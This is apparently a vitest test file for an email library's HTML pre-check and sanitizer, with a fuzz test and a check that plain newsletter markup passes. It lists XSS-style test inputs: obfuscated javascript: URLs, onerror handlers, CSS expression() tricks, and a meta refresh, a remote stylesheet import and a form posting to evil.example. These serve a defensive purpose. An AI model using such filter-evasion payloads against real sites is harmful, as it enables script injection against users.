import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { loadCorpus } from '../../fixtures/corpus.js';
import { mayHaveActiveContent } from '../../src/defang/html-precheck.js';
import { sanitizeHtml } from '../../src/defang/html-sanitizer.js';
import { parseMessage } from '../../src/index.js';

/** The pre-check may say "maybe" too often, never too rarely: skipping the sanitizer must be safe. */
function assertSound(html: string): void {
  if (sanitizeHtml(html).removed.length > 0) expect(mayHaveActiveContent(html), html.slice(0, 200)).toBe(true);
}

describe('HTML pre-check', () => {
  it('flags every HTML body of the corpus the sanitizer would change, and lets most others through', () => {
    let bodies = 0;
    let skipped = 0;
    for (const m of loadCorpus()) {
      for (const part of parseMessage(m.bytes).walk()) {
        if (part.kind !== 'leaf' || part.contentType !== 'text/html') continue;
        const html = part.text();
        bodies++;
        if (!mayHaveActiveContent(html)) skipped++;
        assertSound(html);
      }
    }
    expect(bodies).toBeGreaterThan(1000);
    expect(skipped).toBeGreaterThan(bodies / 3);
  });

  it.each([
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<img src=x onerror=alert(1)>',
    '<img/onerror=alert(1) src=x>',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:ex/**/pression(alert(1))">',
    '<div style="x:\\65xpression(alert(1))">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
    '<style>@import "https://evil.example/x.css";</style>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="ｊａｖａｓｃｒｉｐｔ：alert(1)">x</a>',
    '<title>x</title/><script>alert(1)</script>',
    '<form action="https://evil.example"><input name=p></form>',
  ])('flags %s', (html) => {
    expect(mayHaveActiveContent(html)).toBe(true);
    assertSound(html);
  });

  it('lets inert newsletter markup through', () => {
    const html = '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>News</title></head><body><table width="600" style="border-collapse:collapse;color:#333"><tr><td><img src="https://cdn.example/logo.png" alt="logo"><p>Grüße &#8217;s &amp; <a href="https://example.com/a?b=c">link</a> <a href="mailto:x@example.com">mail</a></p></td></tr></table></body></html>';
    expect(mayHaveActiveContent(html)).toBe(false);
    expect(sanitizeHtml(html).removed).toEqual([]);
  });

  it('is sound on fuzzed markup', () => {
    const token = fc.constantFrom(
      '<', '>', '</', '/', '"', "'", '`', '=', ' ', '\t', '\n', '\x00', '&#', '&#x6a;', '&colon;', ':', '(', ')', 'a', 'img', 'src', 'href',
      'script', 'svg', 'style', 'on', 'error', 'load', 'java', 'script:', 'javascript:', 'data:', 'http:', 'https:', 'url(', 'expression',
      '<!--', '-->', '[if', ']', '<![CDATA[', 'meta', 'http-equiv', 'refresh', 'form', 'action', 'iframe', 'title', '\\6a', 'ｊ',
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 40 }), (tokens) => assertSound(tokens.join(''))),
      { numRuns: 5000 },
    );
  });
});
